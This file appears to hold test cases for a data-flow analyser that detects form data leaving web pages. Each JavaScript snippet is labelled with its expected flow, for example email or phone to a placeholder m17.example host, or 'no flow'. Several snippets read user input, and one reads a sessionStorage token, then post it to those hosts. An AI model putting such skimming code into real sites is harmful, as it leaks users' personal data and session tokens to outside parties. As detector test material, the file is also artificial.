// Conditions on what changes between them: variables filled in a branch, parameters set again, functions that call
// themselves; and what stays.

//# profile-fetched-where-missing
// flow: email > pfm.m17.example via fetch
// why: between the two tests the variable is filled
let profile = null;
async function share(mail) {
  if (!profile) {
    profile = await fetch('/profile.json').then((r) => r.json());
    if (profile) await fetch('https://pfm.m17.example/p', { method: 'POST', body: JSON.stringify({ mail, of: profile.id }) });
  }
}
document.querySelector('input[type=email]').addEventListener('change', (e) => share(e.target.value));

//# token-asked-for-where-none-is-given
// flow: message > tan.m17.example via fetch
// flow: identifier > tan.m17.example via fetch
function post(text, token) {
  if (!token) {
    token = sessionStorage.getItem('token');
    if (token) fetch('https://tan.m17.example/p', { method: 'POST', headers: { 'x-token': token }, body: text });
  }
}
const box = document.querySelector('textarea[name=message]');
box.addEventListener('blur', () => post(box.value));
box.form.addEventListener('reset', () => post('', 'none'));

//# sent-when-ready
// flow: phone > swr.m17.example via fetch
// why: the function calls itself again when what it waits for is there
function send(number, ready) {
  if (!ready) {
    window.customElements.whenDefined('phone-box').then(() => send(number, true));
    return;
  }
  fetch('https://swr.m17.example/n', { method: 'POST', body: number });
}
document.querySelector('input[type=tel]').addEventListener('change', (e) => send(e.target.value, false));

//# one-stage-after-the-other
// flow: search > oso.m17.example via beacon
const step = (query, stage) => {
  if (stage === 'clean') step(query.trim(), 'cut');
  else if (stage === 'cut') step(query.slice(0, 80), 'send');
  else if (stage === 'send') navigator.sendBeacon('https://oso.m17.example/q', query);
};
document.querySelector('input[type=search]').addEventListener('change', ({ target }) => step(target.value, 'clean'));

//# near-stage-that-is-never-come-to
// no flow
// why: it hands its stage on as it is, and is called with another one only
const deal = (text, stage, left) => {
  if (left > 0) deal(text.trim(), stage, left - 1);
  else if (stage === 'send') navigator.sendBeacon('https://nsc.m17.example/q', text);
};
document.querySelector('textarea[name=message]').addEventListener('change', ({ target }) => deal(target.value, 'keep', 2));

//# near-both-ways-of-a-parameter
// no flow
// why: the parameter is not set in between
function store(card, live) {
  if (live) return;
  localStorage.setItem('draft', card.length);
  if (live) fetch('https://nbw.m17.example/c', { method: 'POST', body: card });
}
const field = document.querySelector('input[autocomplete=cc-number]');
field.addEventListener('input', () => store(field.value, window.isLive));
field.addEventListener('change', () => store(field.value, window.wasLive));

//# set-by-a-loop
// flow: username > sbl.m17.example via fetch
// guard: code mode === "live"
let mode = 'off';
for (mode of new URLSearchParams(location.search).getAll('mode')) if (mode === 'live') break;
document.querySelector('input[name=username]').addEventListener('change', (e) => {
  if (mode === 'live') fetch('https://sbl.m17.example/u', { method: 'POST', body: e.target.value });
});

//# step-of-the-browser
// flow: email > sob.m17.example via fetch
// why: the last step is no function of the script
const through = (...steps) => (value) => steps.reduce((so, step) => step(so), value);
const written = through((mail) => ({ mail: mail.trim() }), JSON.stringify, encodeURIComponent);
document.querySelector('input[type=email]').addEventListener('change', (e) => {
  fetch('https://sob.m17.example/m?of=' + written(e.target.value));
});

//# near-step-that-only-tells
// no flow
// why: what goes out is whether there is a number
const along = (...steps) => (value) => steps.reduce((so, step) => step(so), value);
const isNumber = along((text) => text.replaceAll(' ', ''), Number, isFinite);
document.querySelector('input[type=tel]').addEventListener('change', (e) => {
  fetch('https://nst.m17.example/t?ok=' + isNumber(e.target.value));
});
